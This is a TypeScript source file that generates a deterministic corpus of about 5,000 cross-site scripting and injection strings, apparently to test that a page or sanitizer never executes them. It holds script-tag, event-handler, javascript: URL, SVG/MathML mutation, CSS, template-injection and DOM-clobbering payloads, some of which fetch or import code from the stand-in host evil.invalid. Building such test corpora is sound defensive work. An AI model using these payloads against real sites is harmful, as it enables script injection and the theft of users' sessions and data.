/**
 * Texts that would run as code where something read them as markup, as an address or as a template. What they run sets
 * `__pwned`, opens a dialog or asks a server that is not there, so that a page can tell. Always the same ones, in the same
 * order: every family in full, then families nested into one another.
 */
export function injectionCorpus(count = 5_000): readonly string[] {
  const all = new Set<string>()
  const families = [
    scripts(),
    addresses(),
    foreign(),
    styles(),
    templates(),
    clobbering(),
    broken(),
    handlers(),
  ]
  for (const family of families) for (const text of family) all.add(text)
  const first = [...all]
  const next = numbers(first.length)
  while (all.size < count) {
    const [outer, inner] = [next(BREAKOUTS), next(first)]
    all.add(`${outer}${next(WRAPPERS)(inner)}${next(first)}`)
  }
  return [...all].slice(0, count)
}

const PAYLOADS = [
  '__pwned=1',
  'alert(1)',
  "fetch('https://evil.invalid/')",
  // In pieces, for the check of the architecture reads what a file imports.
  `${'import'}('https://evil.invalid/x.js')`,
]
const [RUN = '', DIALOG = ''] = PAYLOADS

/** What ends whatever the text was put into. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</option></select>',
  '</svg>',
  '</math>',
  '</xmp>',
  '</table>',
  '*/</style>',
  '{{',
  '\\u003c',
  '\u202E',
  '\uFEFF',
]

const WRAPPERS: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<div>${inner}</div>`,
  (inner) => `<b><i>${inner}`,
  (inner) => `<table><tr>${inner}</table>`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<math><mtext>${inner}</mtext></math>`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<noscript>${inner}</noscript>`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<textarea>${inner}</textarea>`,
  (inner) => `<!--${inner}-->`,
  (inner) => `<a title="${inner}">x</a>`,
  (inner) => `<a title='${inner}'>x</a>`,
  (inner) => `<p class=${inner}>x</p>`,
  (inner) => `{{firstName|${inner}}}`,
]

function scripts(): string[] {
  const tags = [
    (js: string) => `<script>${js}</script>`,
    (js: string) => `<SCRIPT>${js}</SCRIPT>`,
    (js: string) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js: string) => `<script\n>${js}</script\n>`,
    (js: string) => `<script/x>${js}</script>`,
    (js: string) => `<script src=//evil.invalid/x.js></script>${js}`,
    (js: string) => `<script src="data:text/javascript,${js}"></script>`,
    (js: string) => `<script type=module>${js}</script>`,
    (js: string) => `<<script>${js}//<</script>`,
    (js: string) => `<script>${js}`,
    (js: string) => `<svg><script>${js}</script></svg>`,
    (js: string) => `<svg><script href="data:text/javascript,${js}" /></svg>`,
    (js: string) => `&lt;script&gt;${js}&lt;/script&gt;`,
    (js: string) => `%3Cscript%3E${js}%3C/script%3E`,
    (js: string) => `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
    (js: string) => `＜script＞${js}＜/script＞`,
  ]
  return cross(BREAKOUTS, tags).flatMap(([out, tag]) => PAYLOADS.map((js) => out + tag(js)))
}

function handlers(): string[] {
  const elements = [
    'img src=x',
    'svg',
    'body',
    'iframe',
    'input autofocus',
    'video src=x',
    'audio src=x',
    'details open',
    'marquee',
    'a href=# tabindex=0',
    'button popovertarget=x',
    'select autofocus',
    'textarea autofocus',
    'object data=x',
    'x-y contenteditable',
    'form',
  ]
  const names = [
    'onerror',
    'onload',
    'onfocus',
    'onclick',
    'onmouseover',
    'onpointerenter',
    'onanimationstart',
    'ontoggle',
    'onstart',
    'oncanplay',
    'onbeforetoggle',
    'onsubmit',
    'OnErRoR',
    'onscrollend',
    'oncontentvisibilityautostatechange',
  ]
  const separators = [' ', '/', '\t', '\n', '\f', ' / ']
  return cross(elements, names).flatMap(([element, name], i) =>
    separators.flatMap((gap, j) => {
      const js = PAYLOADS[(i + j) % PAYLOADS.length] ?? RUN
      return [`<${element}${gap}${name}=${js}>`, `<${element}${gap}${name}="${js}" x=">`]
    }),
  )
}

function addresses(): string[] {
  const urls = [
    `javascript:${RUN}`,
    `JaVaScRiPt:${DIALOG}`,
    ` javascript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${DIALOG}`,
    `java&#9;script:${RUN}`,
    `&#106;avascript:${RUN}`,
    `&#x6A&#x61vascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `javascript&#58;${RUN}`,
    `javascript://%0a${DIALOG}`,
    `javascript://shop.example/%0a${RUN}`,
    `\u00A0javascript:${RUN}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
    `blob:https://evil.invalid/1`,
    `filesystem:https://evil.invalid/1`,
    `view-source:javascript:${RUN}`,
    `//evil.invalid/x`,
    `/\\evil.invalid/x`,
    `\\\\evil.invalid\\x`,
    `https:javascript:${RUN}`,
    `feed:javascript:${RUN}`,
    `jar:javascript:${RUN}`,
  ]
  const sinks = [
    (url: string) => url,
    (url: string) => `<a href="${url}">x</a>`,
    (url: string) => `<a href=${url}>x</a>`,
    (url: string) => `<a target=_top href="${url}">x</a>`,
    (url: string) => `<img src="${url}">`,
    (url: string) => `<img srcset="${url} 1x">`,
    (url: string) => `<iframe src="${url}"></iframe>`,
    (url: string) => `<object data="${url}"></object>`,
    (url: string) => `<embed src="${url}">`,
    (url: string) => `<form action="${url}"><input type=submit></form>`,
    (url: string) => `<button formaction="${url}">x</button>`,
    (url: string) => `<input type=image src="${url}">`,
    (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
    (url: string) => `<svg><use href="${url}" /></svg>`,
    (url: string) => `<svg><animate attributeName=href values="${url}" /></svg>`,
    (url: string) => `<math href="${url}">x</math>`,
    (url: string) => `<base href="${url}">`,
    (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
    (url: string) => `<link rel=stylesheet href="${url}">`,
    (url: string) => `<a href="#" ping="${url}">x</a>`,
    (url: string) => `<table background="${url}"><tr><td>x</table>`,
    (url: string) => `<video poster="${url}"></video>`,
    (url: string) => `<map><area href="${url}"></map>`,
  ]
  return cross(urls, sinks).map(([url, sink]) => sink(url))
}

/** Markup that changes its meaning between SVG, MathML and HTML, or when it is written out and read again. */
function foreign(): string[] {
  const shapes = [
    (js: string) => `<svg><style><img src=x onerror=${js}></style></svg>`,
    (js: string) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
    (js: string) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${js}>`,
    (js: string) =>
      `<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
    (js: string) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
    (js: string) =>
      `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></foreignObject></svg>`,
    (js: string) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style>`,
    (js: string) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (js: string) =>
      `<select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=${js} src>">`,
    (js: string) => `<textarea><img title="</textarea><img src=x onerror=${js}>"></textarea>`,
    (js: string) => `<xmp><p title="</xmp><svg/onload=${js}>">`,
    (js: string) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
    (js: string) => `<template><img src=x onerror=${js}></template>`,
    (js: string) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
    (js: string) => `<svg><set attributeName=onmouseover to=${js}>`,
    (js: string) => `<svg><image href=x onerror=${js}>`,
    (js: string) => `<plaintext><img src=x onerror=${js}>`,
    (js: string) => `<frameset onload=${js}><frame src=x></frameset>`,
    (js: string) => `<dialog open onclose=${js}>x</dialog>`,
    (js: string) => `<p is="x-y" onclick=${js}>x</p>`,
  ]
  return cross(shapes, PAYLOADS).map(([shape, js]) => shape(js))
}

function styles(): string[] {
  const rules = [
    `@import url(https://evil.invalid/x.css);`,
    `@import 'https://evil.invalid/x.css';`,
    `@\\69mport 'https://evil.invalid/x.css';`,
    `a{width:expression(${RUN})}`,
    `a{width:exp/**/ression(${RUN})}`,
    `a{background:url(javascript:${RUN})}`,
    `a{background:url("java\\73 cript:${RUN}")}`,
    `a{background:url(//evil.invalid/x)}`,
    `a{background:image-set("//evil.invalid/x" 1x)}`,
    `a{background:image-set(var(--x) 1x);--x:"//evil.invalid/x"}`,
    `a{behavior:url(#default#time2)}`,
    `a{-moz-binding:url(//evil.invalid/x.xml#x)}`,
    `@font-face{font-family:x;src:url(data:font/woff2,x)}`,
    `a{x:y;}</style><img src=x onerror=${RUN}>`,
  ]
  return rules.flatMap((css) => [css, `<style>${css}</style>`, `<p style='${css}'>x</p>`])
}

function templates(): string[] {
  const codes = PAYLOADS.flatMap((js) => [
    `{{constructor.constructor('${js}')()}}`,
    `{{firstName|<img src=x onerror=${js}>}}`,
    `{{${js}}}`,
    `{% raw %}<script>${js}</script>{% endraw %}`,
    `\${${js}}`,
    `<%= ${js} %>`,
    `#{${js}}`,
    `[[${js}]]`,
    `{{__proto__|${js}}}`,
    `{{firstName|{{firstName|<svg onload=${js}>}}}}`,
  ])
  return [...codes, ...codes.map((code) => `<a href="${code}" title='${code}'>${code}</a>`)]
}

/** Names that would stand in front of what a page or a widget relies on. */
function clobbering(): string[] {
  const names = ['gp', 'document', 'body', 'children', 'attributes', '__proto__', 'constructor']
  return names.flatMap((name) => [
    `<img name=${name}>`,
    `<form id=${name}><input name=attributes><input name=childNodes></form>`,
    `<a id=${name}></a><a id=${name} name=length href="javascript:${RUN}"></a>`,
    `<input ${name}=x dangerouslysetinnerhtml=${RUN} ref=${RUN} key=x>`,
    `<p ${name}="${RUN}" __html="<img src=x onerror=${RUN}>">x</p>`,
  ])
}

function broken(): string[] {
  const texts = [
    '<',
    '</',
    '<!',
    '<![CDATA[',
    '<?xml ',
    '<!DOCTYPE html [',
    '<a <b',
    '<img src=x ',
    '&',
    '&#',
    '&lt',
    '<!---->',
    '<!-->',
    '<a/="\'>',
  ]
  return texts.flatMap((text) => [
    text,
    `${text}<img src=x onerror=${RUN}>`,
    `${text} onerror=${DIALOG}//`,
    `${text.repeat(50)}<svg/onload=${RUN}>`,
  ])
}

function cross<A, B>(as: readonly A[], bs: readonly B[]): [A, B][] {
  return as.flatMap((a) => bs.map((b): [A, B] => [a, b]))
}

/** Picks by a fixed sequence (xorshift), so that every run sees the same texts. */
function numbers(seed: number) {
  let state = seed || 1
  return <T>(from: readonly T[]): T => {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    const picked = from[(state >>> 0) % from.length]
    if (picked === undefined) throw new Error('Nothing to pick from')
    return picked
  }
}
